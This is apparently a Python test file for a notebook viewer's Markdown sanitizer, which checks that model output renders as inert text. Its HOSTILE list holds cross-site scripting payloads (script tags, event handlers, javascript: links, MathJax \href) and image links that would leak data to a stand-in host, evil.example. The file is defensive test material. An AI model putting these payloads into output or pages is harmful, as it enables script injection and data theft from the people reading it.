"""Model output can be shown as Markdown and do nothing but read."""

from __future__ import annotations

import html
import re
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from cometnb.view.html import block_html
from cometnb.view.neutral import neutral_markdown, plain_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>x</details>",
    "<style>*{display:none}</style>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](  JaVaScRiPt:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](/api/kernels)",
    "[x](//evil.example/x)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]:\n  javascript:alert(1)",
    "[x][r]\n\n> [r]: javascript:alert(1)",
    "[javascript:alert(1)]: javascript:alert(1)\n\n[javascript:alert(1)]",
    "![x](https://evil.example/?leak=secret)",
    "![](https://evil.example/?leak=secret)",
    "\\\\![x](https://evil.example/?leak=secret)",
    "![x][r]\n\n[r]: https://evil.example/?leak=secret",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "<javascript:alert(1)>",
    "`<script>`",
    "`a` <b> `c`",
    "`unclosed <script>alert(1)</script>\n\nmore `",
    "```\n<b>\n```\n<script>alert(1)</script>",
    "```\n```~\n<script>alert(1)</script>",
    "~~~\n```\n<script>alert(1)</script>\n```\n~~~\n<script>alert(2)</script>",
    "- a\n  ```\n  <script>alert(1)</script>\n  ```",
    "> ```\n> <script>alert(1)</script>",
    "- a\n\n      <script>alert(1)</script>",
    "    <script>alert(1)</script>",
    "<div>\n```\n<script>alert(1)</script>\n```\n</div>",
    "<!--\n```\n--><script>alert(1)</script>",
    "| a |\n|---|\n| `x|<script>alert(1)</script>|y` |",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\n\\href{javascript:alert(1)}{x}\n$$",
    "$a<script>alert(1)</script>$",
    "\\[ \\style{background:url(https://evil.example)}{x} \\]",
    "```mermaid\nflowchart LR\n A@{img: 'https://evil.example/x.png'}\n```",
    "# <script>alert(1)</script>",
    "x\n<script>alert(1)</script>\n===",
    "\x00<script>alert(1)</script>",
    "\r<script>alert(1)</script>",
    "a\u2028<script>alert(1)</script>",
]

_TAG = re.compile(
    r"<(?!/?(?:code|pre|p|ul|ol|li|em|strong|h[1-6]|hr|br|table|thead|tbody|tr|t[hd]|blockquote|a|del)\b)"
)
_LINK = re.compile(r'(?:href|src)="([^"]*)"')


def _rendered(text: str) -> str:
    """Render as the most trusting front end would: raw HTML passes."""
    return str(MarkdownIt("commonmark", {"html": True}).enable("table").render(neutral_markdown(text)))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_markdown_becomes_a_tag_or_a_link_elsewhere(text: str) -> None:
    """Rendered by a parser that passes HTML, only formatting tags and http(s) links are left."""
    html = _rendered(text)
    assert not _TAG.search(html)
    assert not re.search(r"<\w[^>]*\son\w+=", html)
    assert "<img" not in html
    assert all(link.startswith(("http://", "https://", "mailto:")) for link in _LINK.findall(html))


@pytest.mark.parametrize("text", [one for one in HOSTILE if "\\href" in one or "\\style" in one])
def test_active_maths_commands_are_spelled_out(text: str) -> None:
    """MathJax is left nothing that links, styles or loads."""
    assert not re.search(r"\\(href|style)", neutral_markdown(text))


@given(
    st.lists(
        st.sampled_from(
            [*"`$<>[]()!\\:~-|# \n\t", "```", "~~~", "    ", "> ", "- ", "a", "https://a.b", "javascript:"]
        ),
        max_size=40,
    )
)
def test_no_mixture_of_marks_becomes_html(pieces: list[str]) -> None:
    """Whatever marks are mixed, no tag but formatting and no link but http(s) comes out."""
    html = _rendered("".join(pieces))
    assert not _TAG.search(html)
    assert "<img" not in html
    assert all(link.startswith(("http://", "https://", "mailto:")) for link in _LINK.findall(html))


@pytest.mark.parametrize(
    "text",
    [
        "Plain *text* with **marks** and `code`.",
        "# Title\n\n- a\n- b\n  1. c\n\n> quote",
        "```python\nx = [1, 2][0]\n```",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "[link](https://example.org/a?b=c) and https://example.org",
        "$x^2$ and\n\n$$\ny\n$$",
        "- item\n\n  ```python\n  x = 1\n  ```",
    ],
)
def test_harmless_markdown_stays_as_it_is(text: str) -> None:
    """Ordinary answers are not touched."""
    assert neutral_markdown(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a < b", "a &lt; b"),
        ("$a<b$", "$a\\lt b$"),
        ("\\(x\\)", "$x$"),
        ("\\[x\\]", "$$x$$"),
        ("`\\(x\\)`", "`\\(x\\)`"),
        ("![cat](https://a.b/c.png)", "[cat](https://a.b/c.png)"),
        ("![](https://a.b/c.png)", "[image](https://a.b/c.png)"),
        ("<https://a.b>", "https://a.b"),
        ("```py\nopen", "```py\nopen\n```"),
    ],
)
def test_says_the_same_in_another_way(text: str, shown: str) -> None:
    """What had to be rewritten still reads as it was meant."""
    assert neutral_markdown(text) == shown


def _shown_html(markdown: str) -> str:
    return re.sub(r"</?code>|\u200c", "", block_html(neutral_markdown(markdown)))


@pytest.mark.parametrize(
    "text",
    [
        r"&#92;(&#92;href{javascript:alert(1)}{x}&#92;)",
        r"&bsol;(&#x5C;href{javascript:alert(1)}{x}&#092;)",
        r"$\\&#104;ref{javascript:alert(1)}{x}$",
        r"\\(\hr&#101;f{javascript:alert(1)}{x}\\)",
    ],
)
@pytest.mark.parametrize("prepared", [neutral_markdown, plain_markdown])
def test_no_reference_spells_a_command(text: str, prepared: Callable[[str], str]) -> None:
    """JupyterLab looks for formulas in the text of the page, where references have become characters."""
    drawn = MarkdownIt("commonmark").render(prepared(text))
    assert "\\href" not in html.unescape(drawn).replace("\\lt", "")


@pytest.mark.parametrize(
    "text", [r"\(x\) \[y\] \begin{a}", r"\(\href{javascript:alert(1)}{x}\)", r"\eqref{a} $\url{b}$ |"]
)
def test_plain_words_open_no_formula_in_the_page(text: str) -> None:
    """Nor spell a command of one."""
    drawn = html.unescape(MarkdownIt("commonmark").render(plain_markdown(text)))
    assert not re.search(r"\\[()\[\]]|\\(begin|eqref|href|url)", drawn)


@pytest.mark.parametrize("text", HOSTILE)
def test_plain_words_are_shown_as_they_are(text: str) -> None:
    """In a sentence and in a cell of a table: no markup, link or formula, nothing lost."""
    said = " ".join(text.replace("\x00", "\ufffd").split())
    words = plain_markdown(text)
    drawn = _shown_html(f"| h |\n|---|\n| {words} |\n\nIt says: {words}")
    for tag, shown in (("td", said), ("p", f"It says: {said}")):
        (inner,) = re.findall(rf"<{tag}>(.*?)</{tag}>", drawn)
        assert html.unescape(inner) == shown


@given(st.text(alphabet=st.sampled_from("ab_*`$|\\[]()<>&#;~!-+.:/ \n"), max_size=30))
def test_any_words_are_shown_as_they_are(text: str) -> None:
    """Whatever characters come together."""
    drawn = _shown_html(f"x{plain_markdown(text)}x")
    (inner,) = re.findall(r"<p>(.*)</p>", drawn)
    assert html.unescape(inner) == f"x{' '.join(text.split())}x"


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("$0.0026 to $0.0040 (about)", "`$0.0026` to `$0.0040` (about)"),
        ("$.$defs.Reading: closed", "`$.$defs.Reading`: closed"),
        ("$1,200.50, or $7.", "`$1,200.50`, or `$7`."),
        ("only $0.0026", r"only \$0.0026"),
    ],
)
def test_two_amounts_in_a_sentence_are_code(text: str, words: str) -> None:
    """JupyterLab takes what is between two dollars for a formula, escaped or not."""
    assert plain_markdown(text) == words


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("It costs $5 and then $7.", "It costs `$5` and then `$7`."),
        ("| A | $5 |\n|---|---|\n| B | $7 |", "| A | `$5` |\n|---|---|\n| B | `$7` |"),
        (r"\$5, or \\$6", r"`$5`, or \\`$6`"),
        ("$5 for $x^2$", "`$5` for $x^2$"),
        ("`$HOME`, and $5", "`$HOME`, and <code>&#36;5</code>"),
        ("Only $5.", "Only $5."),
        ("$a$ and $b$", "$a$ and $b$"),
    ],
)
def test_amounts_are_no_formula_and_cost_no_row(text: str, expected: str) -> None:
    """JupyterLab takes what stands between two dollars for a formula, over the rows of a table."""
    assert neutral_markdown(text) == expected


def test_a_key_that_the_answer_repeats_is_masked() -> None:
    """Outputs are saved and passed on; in code, too."""
    key = "sk-canary-0123456789abcdef"
    text = neutral_markdown(f"Use {key}:\n\n```python\nkey = '\\n{key}'\n```")
    assert "canary" not in text
    assert text.count("sk-***") == 2


@pytest.mark.parametrize("piece", ["\\", "`", "[", "![", "<", "&#", "$", "\\(", "*", "> ", "- ", "|"])
def test_a_long_run_of_marks_is_read_once(piece: str) -> None:
    """What costs the square of its length would stop the kernel for minutes; a slow reading runs into the time limit."""
    assert neutral_markdown(piece * 400_000 + "!")


@pytest.mark.parametrize("fence", ["```mermaid", "~~~ mermaid", "``` Mermaid x"])
@pytest.mark.parametrize("marker", ["", "> ", "- ", "1. "])
def test_a_diagram_is_shown_as_text_wherever_it_stands(fence: str, marker: str) -> None:
    """A front end would draw it, and a diagram may load images."""
    rest = marker if marker == "> " else " " * len(marker)
    shown = neutral_markdown(f"{marker}{fence}\n{rest}graph LR\n{rest}{fence[:3]}")
    assert "graph LR" in shown
    assert not re.search(r"(```|~~~) ?mermaid", shown, re.IGNORECASE)


@pytest.mark.parametrize("mark", ["*", "_", "~", "`", "[", "![", "<", "$", "\\", "\\("])
def test_more_marks_than_a_page_can_read_are_code(mark: str) -> None:
    """A front end takes the square of the marks in a paragraph; they are written as entities, in code."""
    shown = neutral_markdown(f"x {mark * 1_001}")
    assert shown.startswith("<code>x &")
    assert shown.endswith("</code>")
    assert html.unescape(shown[6:-7]) == f"x {mark * 1_001}"
    assert not set("*_~`[$\\!") & set(shown)


@pytest.mark.parametrize(
    "text",
    [
        "$x_\\] ![i](https://e.v/?q=1) s$$rc",
        "$a{b ![i](https://e.v/?q=1) c$ d",
        "$$a ![i](https://e.v/?q=1) [l](javascript:x) b$$",
        "\\(a ![i](https://e.v/?q=1) b\\)",
    ],
)
def test_a_reader_that_sees_no_formula_sees_no_image_either(text: str) -> None:
    """Where a formula ends differs between readers: what is none to one of them is read as Markdown there."""
    shown = neutral_markdown(text)
    assert "![" not in shown
    assert "](javascript" not in shown
